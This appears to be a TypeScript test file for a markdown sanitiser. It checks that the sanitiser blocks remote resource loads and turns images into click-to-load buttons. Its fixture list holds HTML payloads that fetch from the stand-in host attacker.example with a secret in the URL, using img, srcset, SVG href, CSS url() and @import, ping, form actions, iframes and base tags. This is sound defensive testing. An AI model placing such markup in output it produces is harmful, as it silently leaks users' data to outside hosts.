// The sanitiser holds back every remote resource (markdown/sanitize.ts); Chromium checks the requests themselves
// (tests/browser/test_lab_inert_outputs.py).
import assert from "node:assert/strict";
import { describe, it } from "node:test";

import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";

import { markdown } from "../src/markdown/markedOptions";
import { loadRemoteImage, REMOTE_IMAGE, sanitizer } from "../src/markdown/sanitize";

const { window } = new JSDOM("<!doctype html><body></body>");
const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
const sanitize = sanitizer(purify);
const HOST = "attacker.example";

function parse(html: string): HTMLElement {
  const box = window.document.createElement("div");
  box.innerHTML = sanitize(html);
  return box;
}

/** Every URL-bearing attribute left in the sanitised HTML that would fetch without a click. */
function fetches(box: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of Array.from(box.querySelectorAll("*"))) {
    for (const { name, value } of Array.from(element.attributes)) {
      const link = name === "href" && ["a", "area"].includes(element.localName);
      if (!link && name !== "data-pi-src" && name !== "title" && value.includes(HOST)) {
        found.push(`${element.localName} ${name}`);
      }
    }
    if (element.localName === "style") found.push("style element");
  }
  return found;
}

const REMOTE = [
  `<img src="https://${HOST}/a.png?q=SECRET" alt="chart">`,
  `<img srcset="https://${HOST}/s.png 1x" src="data:image/png;base64,iVBORw0KGgo=">`,
  `<picture><source srcset="https://${HOST}/p.png"><img src="https://${HOST}/p2.png"></picture>`,
  `<svg><image href="https://${HOST}/i.png"/><image xlink:href="https://${HOST}/x.png"/></svg>`,
  `<svg><use href="https://${HOST}/u.svg#a"/><filter><feImage href="https://${HOST}/f.png"/></filter></svg>`,
  `<svg><rect fill="url(https://${HOST}/g.svg#g)" filter="url(https://${HOST}/f.svg#f)"/></svg>`,
  `<div style="background:url(https://${HOST}/bg.png)">x</div>`,
  `<div style="background:u\\72l(https://${HOST}/esc.png)">x</div>`,
  `<div style="background-image:image-set('https://${HOST}/set.png' 1x)">x</div>`,
  `<style>@import 'https://${HOST}/i.css'; body { background: url(https://${HOST}/b.png) }</style>`,
  `<video poster="https://${HOST}/poster.png" src="https://${HOST}/v.mp4"><source src="https://${HOST}/s.mp4"></video>`,
  `<audio src="https://${HOST}/a.mp3"></audio><input type="image" src="https://${HOST}/in.png">`,
  `<table background="https://${HOST}/t.png"><tr><td background="https://${HOST}/td.png">t</td></tr></table>`,
  `<form action="https://${HOST}/f"><button formaction="https://${HOST}/g">send</button></form>`,
  `<a href="https://${HOST}/ok" ping="https://${HOST}/ping">a link stays a link</a>`,
  `<link rel="stylesheet" href="https://${HOST}/l.css"><base href="https://${HOST}/">`,
  `<iframe src="https://${HOST}/frame"></iframe><object data="https://${HOST}/o"></object>`,
];

describe("remote resources", () => {
  for (const html of REMOTE) {
    it(`are held back: ${html.slice(0, 70)}`, () => {
      assert.deepEqual(fetches(parse(html)), []);
    });
  }

  it("a markdown image becomes a button that says where it would load from, and loads on a click", () => {
    const box = parse(markdown.parse(`See ![the chart](https://${HOST}/chart.png?q=SECRET) here.`) as string);
    assert.equal(box.querySelector("img"), null);
    const button = box.querySelector<HTMLButtonElement>(`button.${REMOTE_IMAGE}`)!;
    assert.equal(button.textContent, `the chart: click to load image from ${HOST}`);
    assert.equal(button.dataset.piSrc, `https://${HOST}/chart.png?q=SECRET`);
    button.addEventListener("click", loadRemoteImage);
    button.click();
    const image = box.querySelector("img")!;
    assert.equal(image.getAttribute("src"), `https://${HOST}/chart.png?q=SECRET`);
    assert.equal(image.alt, "the chart");
    assert.equal(box.querySelector(`button.${REMOTE_IMAGE}`), null);
  });

  it("data: images, local SVG references, links and plain styles stay", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const box = parse(
      `<img src="${png}"><svg><image href="#local"/></svg><a href="https://example.com/x">x</a>` +
        `<span style="color: red">red</span>`,
    );
    assert.equal(box.querySelector("img")!.getAttribute("src"), png);
    assert.equal(box.querySelector("image")!.getAttribute("href"), "#local");
    assert.equal(box.querySelector("a")!.getAttribute("href"), "https://example.com/x");
    assert.equal(box.querySelector("span")!.getAttribute("style"), "color: red");
  });

  it("a relative image is held back too, as an image from this server", () => {
    const button = parse(`<img src="files/secret.png">`).querySelector(`button.${REMOTE_IMAGE}`)!;
    assert.equal(button.textContent, "click to load image from this server");
  });
});
